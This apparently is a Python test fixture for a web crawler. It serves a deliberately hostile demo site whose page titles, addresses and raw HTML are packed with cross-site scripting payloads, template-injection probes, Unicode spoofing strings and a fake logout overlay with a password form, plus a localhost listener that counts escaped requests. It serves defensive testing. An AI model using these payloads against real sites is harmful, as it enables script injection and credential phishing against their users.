"""A site that attacks whoever shows what it says: titles, addresses, texts, the words of images, pages as such."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from html import escape
from typing import Any
from urllib.parse import quote

from sites import Answer

from crawler.demo.site import png

PWNED = "top.pwned=self.pwned=1;alert(1)"
LONG = "A very long title " * 6_000
TITLES = {
    "script": f"<script>{PWNED}</script>",
    "image": f"<img src=x onerror='{PWNED}'>",
    "quoted": f"\"><svg onload='{PWNED}'>",
    "attribute": f"\" autofocus onfocus='{PWNED}' x=\"",
    "apostrophe": f"'-{PWNED}-'",
    "closing": f"</title></textarea></script></style></option></template><iframe srcdoc='<script>{PWNED}</script>'>",
    "comment": f"--><img src=x onerror={PWNED}><!--",
    "template": "{{7*7}} {% raw %}{{ token }} ${7*7} <%= 7*7 %> #{7*7}",
    "address": f"javascript:{PWNED}",
    "entity": f"&lt;img src=x onerror={PWNED}&gt;",
    "bidi": "\u202egnp.exe\u2066 \u200f\u061c right to left",
    "control": "bell\x07 escape\x1b[31m \x08\x08 del\x7f next\u2028line",
    "spoof": "p\u0430ypal \u200b\u200b zero \ufeff width",
    "long": LONG,
    "unbroken": "W" * 10_000,
    "zalgo": "Z" + "\u0301" * 500,
}
"""Titles, which are as well the words of links and images, and authors; by where they are to be found."""
STORY = (
    "Whoever walks along the river in the early morning may meet the heron, which is shy, and rarely seen by those who "
    "talk while they walk. It was common here until the mills were built, and has come back to the upper valley since."
)
RAW = """<!DOCTYPE html><html><head><title>Raw</title>
<meta http-equiv="Content-Security-Policy" content="script-src *"><link rel="stylesheet" href="{home}sheet.css">
<link rel="prefetch" href="{home}prefetch"><link rel="dns-prefetch" href="//dns.invalid">
<link rel="preconnect" href="{home}"><link rel="preload" as="image" href="{home}preload.png">
<link rel="icon" href="{home}icon.png"><link rel="manifest" href="{home}manifest">
<style>@import "{home}import.css"; body {{ background: url({home}background.png) }}
@font-face {{ font-family: x; src: url({home}font.woff) }} p {{ font-family: x }}
.over {{ position: fixed; inset: 0; z-index: 99999; background: red }}</style>
<script>{pwned}</script><script src="{home}script.js"></script><script type="module">{pwned}</script></head>
<body onload="{pwned}" onpageshow="{pwned}" background="{home}body.png">
<article><h1>The attack</h1><p>{story}</p>
<div class="over" style="position:fixed;inset:0;background:url({home}over.png)">You have been logged out.</div>
<form action="{home}form" method="post"><input name="password" autofocus onfocus="{pwned}">
<button>Log in</button></form>
<form action="/schedule" method="post"><input type="submit" formaction="{home}" value="Go on"></form>
<p onclick="{pwned}" onmouseover="{pwned}" tabindex="1" accesskey="1">{story}</p>
<iframe src="{home}frame"></iframe><iframe srcdoc="&lt;script&gt;{pwned}&lt;/script&gt;"></iframe>
<object data="{home}object"></object><embed src="{home}embed"><applet code="{home}applet"></applet>
<img src="{home}image.png" srcset="{home}large.png 2x" onerror="{pwned}" alt="A heron" width="300" height="200">
<picture><source srcset="{home}source.png"><img src="{home}second.png" alt="Another heron"></picture>
<video src="{home}video" poster="{home}poster.png" autoplay></video><audio src="{home}audio" autoplay></audio>
<svg onload="{pwned}"><image href="{home}svg.png"/><use href="{home}use.svg#a"/><animate onbegin="{pwned}"/>
<foreignObject><iframe src="javascript:{pwned}"></iframe></foreignObject></svg>
<svg><meta http-equiv="refresh" content="30;url={home}refresh"><base href="{home}"></svg>
<svg><style><img src=x onerror="{pwned}"></style></svg><math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=x onerror={pwned}&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={pwned}>"></noscript>
<details open ontoggle="{pwned}"><summary>More</summary>{story}</details><marquee onstart="{pwned}">{story}</marquee>
<p>{story} <a href="javascript:{pwned}">One</a> <a href="data:text/html,<script>{pwned}</script>">two</a>
<a href="{home}top" target="_top" ping="{home}ping">three</a> <a href=" java&#9;script:{pwned}">four</a>
<a href="vbscript:x">five</a></p><template><script>{pwned}</script></template>
<table background="{home}table.png"><tr><td background="{home}cell.png">{story}</td></tr></table>
<p id="main" name="token" class="skip" data-live="1" data-key="1" data-opens="keys">{story}</p>
<input type="hidden" name="token" value="theirs"><dialog open id="keys">{story}</dialog></article></body></html>
"""


def routes(home: str) -> dict[str, Any]:
    """The site's answers; `home` is where its pages would call, if they could."""
    links = "".join(f'<li><a href="{escape(_place(name))}">{escape(title)}</a></li>' for name, title in TITLES.items())
    links += '<li><a href="/raw">Raw</a></li>'
    start = f"<!DOCTYPE html><html><head><title>Start</title></head><body><p>{STORY}</p><ul>{links}</ul></body></html>"
    found: dict[str, Any] = {"/": start, "/raw": _raw(home), "/robots.txt": ""}
    for name, title in TITLES.items():
        found[_asked(name)] = _page(name, title)
        found[f"/images/{name}.png"] = Answer(png(name, 300, 200), content_type="image/png")
    return found


def _raw(home: str) -> str:
    return RAW.format(home=home, pwned=escape(PWNED), story=STORY)


def _place(name: str) -> str:
    """The address of a page, which attacks as well."""
    return f"/{name}?q=\"><script>{PWNED}</script>'onmouseover='{PWNED}&\u202e"


def _asked(name: str) -> str:
    return quote(_place(name), safe="/?=&;()")


def _page(name: str, title: str) -> str:
    said = escape(title)
    return (
        f'<!DOCTYPE html><html lang="en"><head><title>{said}</title><meta name="author" content="{said[:200]}">'
        f'<meta name="description" content="{said[:300]}"></head><body><article><h1>{said}</h1><p>{STORY}</p>'
        f'<figure><img src="/images/{name}.png" alt="{said[:300]}" title="{said[:300]}" width="300" height="200">'
        f"<figcaption>{said[:300]}</figcaption></figure><p>{said[:2_000]} {STORY}</p><p>{STORY}</p></article></body>"
    )


class Listener:
    """Somebody who waits to be called: how many times that was."""

    def __init__(self, port: int) -> None:
        self.home = f"http://127.0.0.1:{port}/"
        self.calls = 0


@contextmanager
def listening() -> Iterator[Listener]:
    """Where attacks call home; whoever connects is counted, whatever is asked."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        found = Listener(server.getsockname()[1])

        def listen() -> None:
            with suppress(OSError):  # the end
                while True:
                    connection, _ = server.accept()
                    found.calls += 1
                    with connection, suppress(OSError):
                        connection.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        try:
            yield found
        finally:
            server.shutdown(socket.SHUT_RDWR)
            thread.join(5)
